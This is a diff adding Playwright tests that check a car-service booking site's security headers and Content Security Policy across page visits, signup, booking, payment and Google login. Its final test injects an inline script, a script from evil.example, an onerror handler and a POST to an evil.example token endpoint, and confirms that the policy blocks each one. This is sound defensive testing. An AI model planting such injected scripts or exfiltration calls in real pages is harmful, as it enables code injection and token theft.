@@ -1,0 +1,115 @@
+import type { Page } from '@playwright/test';
+import { bookOilChange, continueWithGoogle, expect, newEmail, signUp, test } from './fixtures.ts';
+
+/** What the browser reports that the policy forbade, from now on. */
+async function watchViolations(page: Page): Promise<string[]> {
+  const violations: string[] = [];
+  await page.exposeFunction('reportViolation', (violation: string) => violations.push(violation));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+      (window as unknown as { reportViolation(text: string): void }).reportViolation(
+        `${effectiveDirective} ${blockedURI}`,
+      );
+    });
+  });
+  return violations;
+}
+
+test('every answer of the site carries the security headers', async ({ request, page }) => {
+  await page.goto('/');
+  const script = await page.locator('script[src]').first().getAttribute('src');
+  for (const path of ['/', '/services', script ?? '', '/nowhere', '/assets/gone.js']) {
+    const headers = (await request.get(path)).headers();
+    expect(headers, path).toMatchObject({
+      'strict-transport-security': expect.stringMatching(/^max-age=\d{8,}/),
+      'x-content-type-options': 'nosniff',
+      'referrer-policy': 'strict-origin-when-cross-origin',
+      'permissions-policy': expect.stringContaining('camera=()'),
+      'cross-origin-opener-policy': 'same-origin-allow-popups',
+    });
+    const policy = (headers['content-security-policy'] ?? '').split('; ');
+    expect(policy).toEqual(
+      expect.arrayContaining(["default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]),
+    );
+    expect(policy.find((directive) => directive.startsWith('script-src '))).toMatch(
+      /^script-src 'self' 'sha256-[\w+/]{43}=' https:\/\/apis\.google\.com$/,
+    );
+  }
+});
+
+test('the policy forbids nothing that the public pages do', async ({ page }) => {
+  const violations = await watchViolations(page);
+  for (const path of [
+    '/',
+    '/services?search=oil',
+    '/about',
+    '/contact',
+    '/login',
+    '/signup',
+    '/payment/success',
+    '/payment/fail',
+    '/nowhere',
+  ]) {
+    await page.goto(path);
+    await expect(page.getByRole('heading', { level: 1 })).not.toHaveCount(0);
+    // Until the pictures are there.
+    await page.waitForLoadState('networkidle');
+  }
+  expect(violations).toEqual([]);
+});
+
+test('the policy forbids nothing of signing up, writing to the garage, booking and paying', async ({
+  page,
+}) => {
+  const violations = await watchViolations(page);
+  const synced = page.waitForRequest('**/token-sync');
+  await signUp(page, newEmail());
+  await synced;
+  await page.goto('/contact');
+  const form = page.getByRole('main');
+  for (const label of ['Name', 'Phone', 'Message']) await form.getByLabel(label).fill('Rahim');
+  await form.getByLabel('Email').fill(newEmail());
+  await form.getByRole('button', { name: 'Send Message' }).click();
+  await expect(page.getByText('Congrats! Successfully sent message')).toBeVisible();
+  await bookOilChange(page);
+  await page.getByRole('button', { name: 'Pay', exact: true }).click();
+  await expect(page.getByText('Congrats! booking payment successful.')).toBeVisible();
+  await page.getByRole('link', { name: 'Orders', exact: true }).click();
+  await expect(page.getByRole('heading', { name: 'You have 1 Orders' })).toBeVisible();
+  expect(violations).toEqual([]);
+});
+
+test('the policy forbids nothing of signing in with Google', async ({ page }) => {
+  const violations = await watchViolations(page);
+  await page.goto('/login');
+  await continueWithGoogle(page, newEmail());
+  await expect(page.getByRole('link', { name: 'Orders' })).toBeVisible();
+  expect(violations).toEqual([]);
+});
+
+test('a script that gets into a page neither runs nor speaks to anybody', async ({ page, consoleErrors }) => {
+  const violations = await watchViolations(page);
+  await page.goto('/about');
+  await page.evaluate(async () => {
+    const script = (properties: Partial<HTMLScriptElement>) =>
+      document.body.append(Object.assign(document.createElement('script'), properties));
+    script({ text: 'document.body.id = "inline"' });
+    script({ src: 'https://evil.example/script.js' });
+    document.body.insertAdjacentHTML(
+      'beforeend',
+      '<img src="data:," onerror="document.body.id = \'handler\'">',
+    );
+    await fetch('https://evil.example/token', { method: 'POST' }).catch(() => {});
+  });
+  await expect
+    .poll(() => violations.toSorted())
+    .toEqual([
+      'connect-src https://evil.example/token',
+      'script-src-attr inline',
+      'script-src-elem https://evil.example/script.js',
+      'script-src-elem inline',
+    ]);
+  await expect(page.locator('body')).not.toHaveAttribute('id');
+  // The browser says each on the console, too.
+  for (const error of consoleErrors.splice(0)) expect(error).toContain('Content Security Policy');
+});
